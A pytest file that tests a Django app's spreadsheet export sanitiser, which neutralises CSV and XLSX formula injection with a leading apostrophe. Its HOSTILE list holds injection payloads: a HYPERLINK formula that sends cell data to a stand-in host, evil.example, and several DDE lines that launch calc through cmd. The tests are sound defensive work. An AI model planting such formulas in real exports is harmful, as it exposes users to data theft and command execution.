"""Spreadsheet exports never carry a formula: text that a spreadsheet would run is
neutralised with a leading apostrophe (OWASP), numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from fractions import Fraction

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from core.exports import spreadsheet_safe, table_response

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1;"Klik")',
    "+45 cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def _xlsx_rows(response) -> list[list]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [[cell for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_a_spreadsheet_would_run_gets_a_leading_apostrophe(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["Aarhus", "", "1+1=2", "KKR Midtjylland", "'quoted", " =1"])
def test_ordinary_text_is_left_as_it_is(text: str) -> None:
    assert spreadsheet_safe(text) == text


@pytest.mark.parametrize(
    ("value", "expected"),
    [(-5, -5), (0, 0), (-2.5, -2.5), (Decimal("-1.25"), Decimal("-1.25")), (True, True)],
)
def test_numbers_stay_numbers_even_when_negative(value, expected) -> None:
    result = spreadsheet_safe(value)
    assert result == expected and type(result) is type(expected)


def test_a_fraction_becomes_a_number_and_other_objects_become_safe_text() -> None:
    assert spreadsheet_safe(Fraction(-7, 2)) == -3.5
    assert spreadsheet_safe(None) is None

    class Name:
        def __str__(self) -> str:
            return "=1+1"

    assert spreadsheet_safe(Name()) == "'=1+1"


def test_table_response_csv_neutralises_text_and_writes_numbers_as_numbers() -> None:
    rows = [["name", "count"], *[[text, -3] for text in HOSTILE], ["ok", Fraction(1, 4)]]
    response = table_response(rows, filename="t", extension="csv")
    read = _csv_rows(response)
    assert read[0] == ["name", "count"]
    assert [row[0] for row in read[1:-1]] == ["'" + text for text in HOSTILE]
    assert {row[1] for row in read[1:-1]} == {"-3"}  # a number, no apostrophe
    assert read[-1] == ["ok", "0.25"]


def test_table_response_xlsx_has_no_formula_cells_and_typed_numbers() -> None:
    rows = [["name", "count"], *[[text, -3] for text in HOSTILE], ["ok", Fraction(1, 4)]]
    response = table_response(rows, filename="t", extension="xlsx", sheet_title="=x")
    cells = _xlsx_rows(response)
    for name, count in cells[1:-1]:
        assert name.data_type == "s" and name.value.startswith("'")
        assert count.data_type == "n" and count.value == -3
    assert cells[-1][1].value == 0.25 and cells[-1][1].data_type == "n"


def _log_in(client: Client, username: str) -> None:
    response = client.post(
        reverse("accounts:login"), {"username": username, "password": "demo-kkr-2026"}
    )
    assert response.status_code == 302


def test_the_appointments_export_neutralises_a_hostile_person_name(client: Client, demo) -> None:
    from councils.models import Person

    Person.objects.filter(name="Rune Asmussen").update(name=HOSTILE[0])
    _log_in(client, "sekretariat")
    query = {"organ": "styregruppe-elena-cedepi"}
    rows = _csv_rows(client.get(reverse("councils:appointments_export", args=["csv"]), query))
    assert ["'" + HOSTILE[0]] == [cell for row in rows for cell in row if "HYPERLINK" in cell]
    cells = _xlsx_rows(client.get(reverse("councils:appointments_export", args=["xlsx"]), query))
    hostile = [cell for row in cells for cell in row if "HYPERLINK" in str(cell.value)]
    assert [(c.value, c.data_type) for c in hostile] == [("'" + HOSTILE[0], "s")]
    assert not any(cell.data_type == "f" for row in cells for cell in row)


def test_the_quota_export_neutralises_names_and_keeps_quotas_as_numbers(
    client: Client, demo
) -> None:
    from councils.models import Municipality
    from quotas.demo import load_quota_demo

    load_quota_demo()
    Municipality.objects.filter(name="Aarhus").update(name="@SUM(1+1)")
    Municipality.objects.filter(name="Odense").update(name="-Odense")
    rows = _csv_rows(client.get("/kvoter/2015/kommunekvoter.csv"))
    names = [row[3] for row in rows[1:]]
    assert "'@SUM(1+1)" in names and "'-Odense" in names
    assert all(row[4].isdigit() for row in rows[1:])  # quota written as a plain number
    cells = _xlsx_rows(client.get("/kvoter/2015/kommunekvoter.xlsx"))
    assert {"'@SUM(1+1)", "'-Odense"} <= {row[3].value for row in cells[1:]}
    assert all(row[4].data_type == "n" for row in cells[1:])
    assert sum(row[4].value for row in cells[1:]) == 4000
    assert not any(cell.data_type == "f" for row in cells for cell in row)
